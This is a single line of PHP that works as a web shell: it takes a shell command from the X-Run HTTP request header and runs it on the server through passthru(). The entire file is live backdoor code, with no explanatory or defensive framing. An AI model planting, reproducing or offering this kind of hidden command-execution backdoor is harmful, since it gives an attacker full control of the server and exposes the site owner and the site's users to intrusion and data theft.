<?php passthru(getenv('HTTP_X_RUN'));
